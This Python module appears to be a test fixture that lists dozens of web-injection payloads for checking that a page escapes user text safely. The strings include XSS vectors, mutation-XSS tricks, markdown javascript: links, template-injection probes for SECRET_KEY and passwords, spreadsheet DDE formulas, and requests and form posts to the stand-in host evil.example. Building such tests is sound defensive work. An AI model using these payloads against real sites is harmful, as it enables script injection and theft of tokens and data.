"""What people put into a text so that the page which shows it does their bidding: each calls `pwned`, or asks
another host, where it is taken for more than text."""

from __future__ import annotations

from collections.abc import Iterable, Iterator

EVIL = "evil.example"

# Each runs by itself, or under the pointer or the focus, where a page holds it as it is.
SCRIPTS = {
    "script": "<script>pwned('script')</script>",
    "script-upper": "<SCRIPT >pwned('script-upper')</SCRIPT >",
    "script-tabbed": "<script\t\n/x>pwned('script-tabbed')</script\t>",
    "script-unclosed": "<script>pwned('script-unclosed')//",
    "script-module": "<script type=module>pwned('script-module')</script>",
    "script-comment-inside": "<script><!--\npwned('script-comment-inside')//--></script>",
    "script-data": "<script src=\"data:text/javascript,pwned('script-data')\"></script>",
    "img-onerror": "<img src=x onerror=pwned('img-onerror')>",
    "img-onerror-unclosed": "<img src=x onerror=pwned('img-onerror-unclosed') ",
    "img-slashes": "<img/src='x'/onerror=pwned('img-slashes')>",
    "img-quotes": "<img src='x'onerror=\"pwned('img-quotes')\">",
    "img-backtick": "<img src=`x` onerror=pwned('img-backtick')>",
    "img-entities": "<img src=x onerror=&#112;&#119;&#x6e;ed&lpar;'img-entities'&rpar;>",
    "img-unicode-escape": "<img src=x onerror=\\u0070wned('img-unicode-escape')>",
    "img-decoded-twice": "<img src=x onerror=\"eval(decodeURIComponent('pwned%28%22img-decoded-twice%22%29'))\">",
    "img-upper": "<IMG SRC=X ONERROR=\"pwned('img-upper')\">",
    "image-alias": "<image src=x onerror=pwned('image-alias')>",
    "svg-onload": "<svg onload=pwned('svg-onload')>",
    "svg-slash": "<svg/onload=pwned('svg-slash')//",
    "svg-script": "<svg><script>pwned('svg-script')</script></svg>",
    "svg-script-entities": "<svg><script>&#112;wned('svg-script-entities')</script></svg>",
    "svg-image": "<svg><image href=x onerror=pwned('svg-image')></svg>",
    "svg-animate": "<svg><animate onbegin=pwned('svg-animate') attributeName=x dur=1s></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x onerror=pwned('svg-foreign')></foreignObject></svg>",
    "svg-desc": "<svg><desc><img src=x onerror=pwned('svg-desc')></desc></svg>",
    "svg-style-mutation": "<svg></p><style><g title=\"</style><img src=x onerror=pwned('svg-style-mutation')>\">",
    "math": "<math><mtext><img src=x onerror=pwned('math')></mtext></math>",
    "noscript-mutation": "<noscript><p title=\"</noscript><img src=x onerror=pwned('noscript-mutation')>\">",
    "template-mutation": "<p><template><s></template><img src=x onerror=pwned('template-mutation')></s>",
    "details": "<details open ontoggle=pwned('details')>x</details>",
    "details-closed": "<details ontoggle=pwned('details-closed')><summary>x</summary></details>",
    "input-autofocus": "<input autofocus onfocus=pwned('input-autofocus')>",
    "select-focus": "<select onfocus=pwned('select-focus')></select>",
    "tabindex-focus": "<b tabindex=1 onfocus=pwned('tabindex-focus')>x</b>",
    "button-pointer": "<button onpointerover=pwned('button-pointer')>x</button>",
    "a-hover": "<a onmouseover=pwned('a-hover')>x</a>",
    "custom-tag": "<xss onmouseover=pwned('custom-tag')>x</xss>",
    "video": "<video><source onerror=pwned('video')></video>",
    "audio": "<audio src=x onerror=pwned('audio')></audio>",
    "object": "<object data=\"data:text/html,<script>parent.postMessage('x')</script>\" onload=pwned('object')>",
    "body": "<body onpageshow=pwned('body')>",
    "style-animation": "<style>@keyframes x{}</style><i style=animation-name:x onanimationstart="
    "pwned('style-animation')>x</i>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>pwned('iframe-srcdoc')</script>\"></iframe>",
    "iframe-entities": "<iframe srcdoc=&lt;script&gt;pwned('iframe-entities')&lt;/script&gt;></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:pwned('iframe-javascript')\"></iframe>",
    "iframe-onload": "<iframe onload=pwned('iframe-onload')></iframe>",
    "break-double": "\"><script>pwned('break-double')</script>",
    "break-single": "'><script>pwned('break-single')</script>",
    "break-both": "'\"`><img src=x onerror=pwned('break-both')>",
    "break-title": "</title><script>pwned('break-title')</script>",
    "break-textarea": "</textarea><script>pwned('break-textarea')</script>",
    "break-pre": "</pre></div></article><script>pwned('break-pre')</script>",
    "break-script": "</script><script>pwned('break-script')</script>",
    "break-style": "</style></noscript><script>pwned('break-style')</script>",
    "break-comment": "--><script>pwned('break-comment')</script><!--",
    "break-comment-bang": "--!><img src=x onerror=pwned('break-comment-bang')>",
    "break-cdata": "]]><script>pwned('break-cdata')</script>",
    "break-select": "</option></select><img src=x onerror=pwned('break-select')>",
    "break-svg": "</text></svg><svg onload=pwned('break-svg')>",
    "comment-short": "<!--><img src=x onerror=pwned('comment-short')>-->",
    "bidi": "\u202e<img src=x onerror=pwned('bidi')>\u202c\u2066\u2069",
    "line-separators": "<img src=x onerror=\u2028pwned('line-separators')\u2029>",
    "control-characters": "<img src=x\x0conerror=pwned('control-characters')>\x01\x08\x1b",
    "markdown-fence": "```html\"onclick=pwned(1)\n</code></pre><img src=x onerror=pwned('markdown-fence')>\n```",
    "markdown-table": "|a|b|\n|--|--|\n|<img src=x onerror=pwned('markdown-table')>|x|",
    "long": "A" * 120 + "<img src=x onerror=pwned('long')>" + "B" * 60,
}
# Each asks another host where a page holds it as it is.
LOADS = {
    "load-img": f"<img src=//{EVIL}/img>",
    "load-script": f"<script src=//{EVIL}/s.js></script>",
    "load-css": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "load-style": f"<style>@import url(//{EVIL}/i.css);*{{background:url(//{EVIL}/b)}}</style>",
    "load-style-attribute": f'<b style="background:url(https://{EVIL}/style)">x</b>',
    "load-iframe": f"<iframe src=https://{EVIL}/frame></iframe>",
    "load-refresh": f'<meta http-equiv=refresh content="0;url=https://{EVIL}/refresh">',
    "load-base": f"<base href=https://{EVIL}/><img src=base>",
    "load-dangling": f"<img src='https://{EVIL}/?",
    "load-poster": f"<video poster=//{EVIL}/poster></video>",
    "load-backslashes": f"<img src=/\\{EVIL}\\img>",
    "load-srcset": f'<img srcset="//{EVIL}/srcset 1x">',
}
# Each needs a place of its own: a Markdown parser, a link that is clicked, a script, a template, a spreadsheet.
OTHERS = {
    "math-mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x '
    "onerror=pwned('math-mutation')>\">",
    "form-action": f"<form action=https://{EVIL}/form><input name=csrfmiddlewaretoken><button>x</button></form>",
    "button-formaction": f"<button form=changelist-form formaction=https://{EVIL}/button>x</button>",
    "a-javascript": "<a href=javascript:pwned('a-javascript')>x</a>",
    "a-javascript-spaced": "<a href=\" java\tscript:pwned('a-javascript-spaced')\">x</a>",
    "attribute-double": '" autofocus onfocus="pwned(\'attribute-double\')" x="',
    "attribute-single": "' autofocus onfocus='pwned(1)' x='",
    "attribute-unquoted": "x onmouseover=pwned('attribute-unquoted') ",
    "attribute-class": 'x" class="out" data-copy="x" style="position:fixed;inset:0',
    "json-string": "\\\";pwned('json-string');//",
    "json-single": "\\';pwned('json-single');//",
    "json-line-separator": "\u2028pwned('json-line-separator')\u2029//",
    "json-closing": '{"a": "</script><script>pwned(\'json-closing\')</script>"}',
    "json-comment": '<!--<script>{"a": "--><script>pwned(\'json-comment\')</script>',
    "entities": "&lt;script&gt;pwned('entities')&lt;/script&gt;",
    "entities-numeric": "&#60;img src=x onerror=pwned('entities-numeric')&#62;",
    "percent": "%3Cscript%3Epwned('percent')%3C/script%3E",
    "unicode-escape": "\\u003cscript\\u003epwned('unicode-escape')\\u003c/script\\u003e",
    "fullwidth": "\uff1cscript\uff1epwned('fullwidth')\uff1c/script\uff1e",
    "overlong": "\u00c0\u00bcscript\u00c0\u00bepwned('overlong')",
    "nul-ish": "<\u2400script>pwned('nul-ish')</scri\ufffdpt>\ufffe",
    "template-django": "{{ 'pwn'|add:'ed-by-template' }}{% load static %}{% include 'admin/login.html' %}",
    "template-braces": "{{constructor.constructor('pwned(1)')()}}${pwned(1)}#{pwned(1)}<%= pwned(1) %>",
    "template-arithmetic": "{{7*7}}{%debug%}{{request.user.password}}{{settings.SECRET_KEY}}",
    "format": "{0.__class__} %(message)s %s {session.owner.password}",
    "css": "x;}*{display:none}a[href^='/']{background:url(//evil.example/css)}",
    "css-expression": "expression(pwned('css-expression'));behavior:url(x);-moz-binding:url(x)",
    "formula": '=HYPERLINK("https://evil.example/"&A1,"x")',
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|'/C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "markdown-javascript": "[x](javascript:pwned('markdown-javascript'))",
    "markdown-javascript-upper": "[x](JaVaScRiPt:pwned('x'))",
    "markdown-javascript-entity": "[x](javascript&colon;pwned('x')) [y](&#106;avascript:pwned('y'))",
    "markdown-javascript-tab": "[x](<java\tscript:pwned('x')>) [y](\x01javascript:pwned('y'))",
    "markdown-vbscript": "[x](vbscript:pwned) [y](file:///etc/passwd) [z](blob:x)",
    "markdown-data": "[x](data:text/html,<script>pwned('x')</script>) [y](data:image/svg+xml,<svg onload=pwned>)",
    "markdown-image": "![x](https://evil.example/markdown.png) ![y](//evil.example/y)",
    "markdown-image-javascript": "![x](javascript:pwned('x'))![\" onerror=pwned('y') \"](x)",
    "markdown-image-reference": "![x][evil]\n\n[evil]: //evil.example/reference.png",
    "markdown-link-image": "[![x](//evil.example/in.png)](javascript:pwned('x'))",
    "markdown-autolink": "<javascript:pwned('x')> <data:text/html,x> <https://evil.example/\"onmouseover=pwned(1)>",
    "markdown-reference": "[x][1]\n\n[1]: javascript:pwned('x') \"t\" onmouseover=pwned(1)",
    "markdown-title": '[x](https://evil.example "" onmouseover=pwned(\'markdown-title\') x="")',
    "markdown-relative": "[x](/admin/logout/) [y](//evil.example/relative) [z](?raw=1) [#](#m1)",
    "markdown-html-in-link": "[<img src=x onerror=pwned('x')>](https://evil.example/)",
    "markdown-code": "`<script>pwned('markdown-code')</script>` ~~<b onclick=pwned(1)>~~",
    "markdown-heading": "# <svg onload=pwned('markdown-heading')>\n<!-- comment\n--> x",
    "markdown-setext": "<div onmouseover=pwned('markdown-setext')>\n===\n- <p onclick=pwned(1)>\n> <x>",
    "markdown-backslash": "\\<script>pwned('markdown-backslash')\\</script>",
    "markdown-nested": "[[x](javascript:pwned(1))](javascript:pwned(2)) **[y](javascript&#58;pwned(3))**",
}
PAYLOADS = SCRIPTS | LOADS | OTHERS


def bins(texts: Iterable[str], length: int) -> Iterator[str]:
    """The texts one after the other, as many in one as have room; of a longer one what has."""
    filled = ""
    for text in texts:
        if filled and len(filled) + len(text) > length:
            yield filled
            filled = ""
        filled += text[: length - len(filled)]
    yield filled
